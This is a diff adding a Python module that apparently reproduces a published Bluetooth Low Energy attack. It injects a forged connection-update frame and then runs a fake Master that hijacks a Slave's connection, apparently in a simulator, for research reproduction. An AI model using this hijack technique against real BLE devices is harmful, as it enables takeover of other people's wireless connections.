@@ -1,0 +1,149 @@
+"""Scenario C: hijacking the Master role (paper §VI-C, Fig. 7).
+
+The attacker injects a forged ``LL_CONNECTION_UPDATE_IND``.  At the chosen
+*instant* the Slave re-times itself onto the attacker's transmit window and
+ignores the legitimate Master, which keeps transmitting on the old schedule
+until its supervision timeout fires.  The attacker transmits in the new
+window, becoming the Slave's Master — with a single injected frame, where
+BTLEJack needed sustained jamming.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Callable, Optional
+
+from repro.core.attacker import Attacker
+from repro.core.injection import InjectionReport
+from repro.core.roles import FakeMaster
+from repro.core.sniffer import SniffedEvent
+from repro.errors import AttackError
+from repro.ll.pdu.control import ConnectionUpdateInd
+
+#: Safety margin inside the new transmit window for the first poll, µs.
+_FIRST_POLL_OFFSET_US = 150.0
+
+
+@dataclass
+class ScenarioCResult:
+    """Outcome of the Master hijack.
+
+    Attributes:
+        report: injection report of the forged connection update.
+        fake_master: the attacker's Master role (running when successful).
+        update: the injected update PDU.
+    """
+
+    report: InjectionReport
+    fake_master: Optional[FakeMaster] = None
+    update: Optional[ConnectionUpdateInd] = None
+
+    @property
+    def success(self) -> bool:
+        """Whether the hijack reached the Master takeover."""
+        return self.report.success and self.fake_master is not None
+
+
+class MasterHijackScenario:
+    """Forged-connection-update Master takeover.
+
+    Args:
+        attacker: a synchronised attacker.
+        new_interval: interval (slots) after the update; default keeps the
+            old one (maximally stealthy).
+        win_offset: transmit-window offset of the forged update (slots);
+            must be >= 1 so the Slave leaves the legitimate anchor behind.
+        win_size: transmit-window size (slots).
+        instant_delta: events between injection start and the instant —
+            generous, so retries still land before the instant.
+    """
+
+    def __init__(
+        self,
+        attacker: Attacker,
+        new_interval: Optional[int] = None,
+        win_offset: int = 3,
+        win_size: int = 2,
+        instant_delta: int = 40,
+    ):
+        if win_offset < 1:
+            raise AttackError("win_offset must be >= 1 to desynchronise")
+        self.attacker = attacker
+        self.new_interval = new_interval
+        self.win_offset = win_offset
+        self.win_size = win_size
+        self.instant_delta = instant_delta
+        self.fake_master: Optional[FakeMaster] = None
+        self._update: Optional[ConnectionUpdateInd] = None
+        self._on_done: Optional[Callable[[ScenarioCResult], None]] = None
+        self._prev_on_event = None
+
+    def run(self, on_done: Optional[Callable[[ScenarioCResult], None]] = None
+            ) -> None:
+        """Inject the forged update, wait for its instant, take over."""
+        conn = self.attacker.connection
+        if conn is None:
+            raise AttackError("attacker is not synchronised")
+        self._on_done = on_done
+        interval = (self.new_interval if self.new_interval is not None
+                    else conn.params.interval)
+        self._update = ConnectionUpdateInd(
+            win_size=self.win_size,
+            win_offset=self.win_offset,
+            interval=interval,
+            latency=0,
+            timeout=conn.params.timeout,
+            instant=(conn.event_count + self.instant_delta) & 0xFFFF,
+        )
+        self.attacker.inject_control(self._update, on_done=self._injected)
+
+    # ------------------------------------------------------------------
+    # Phases
+    # ------------------------------------------------------------------
+
+    def _injected(self, report: InjectionReport) -> None:
+        conn = self.attacker.connection
+        assert conn is not None and self._update is not None
+        if not report.success:
+            self._finish(ScenarioCResult(report=report))
+            return
+        if not conn.instant_in_future_for(self._update.instant):
+            # Too many attempts burned the margin; re-arm with a new
+            # instant (the Slave rejected the stale one anyway).
+            self._update = None
+            self.run(self._on_done)
+            return
+        conn.observe_update(self._update)
+        self._report = report
+        # Keep following passively until the event before the instant.
+        self._prev_on_event = self.attacker.sniffer.on_event
+        self.attacker.sniffer.on_event = self._watch_for_instant
+        self.attacker.resume_sniffing()
+
+    def _watch_for_instant(self, event: SniffedEvent) -> None:
+        if self._prev_on_event is not None:
+            self._prev_on_event(event)
+        conn = self.attacker.connection
+        assert conn is not None and self._update is not None
+        instant = self._update.instant
+        if ((instant - 1 - conn.event_count) & 0xFFFF) != 0:
+            return
+        # The next event is the instant: take the radio and become Master.
+        self.attacker.sniffer.on_event = self._prev_on_event
+        self.attacker.sniffer.cancel()
+        forged = conn.forged_bits() if conn.slave_bits.seen else (0, 0)
+        conn.advance_event()  # applies the update, re-bases the anchor
+        fake = FakeMaster(
+            self.attacker.sim, self.attacker.radio, conn,
+            forged_bits=forged,
+            name=f"{self.attacker.name}-fake-master",
+        )
+        self.fake_master = fake
+        first_tx = (conn.last_anchor_us or self.attacker.sim.now)
+        fake.start(first_tx_us=first_tx + _FIRST_POLL_OFFSET_US)
+        self._finish(ScenarioCResult(report=self._report, fake_master=fake,
+                                     update=self._update))
+
+    def _finish(self, result: ScenarioCResult) -> None:
+        if self._on_done is not None:
+            self._on_done(result)
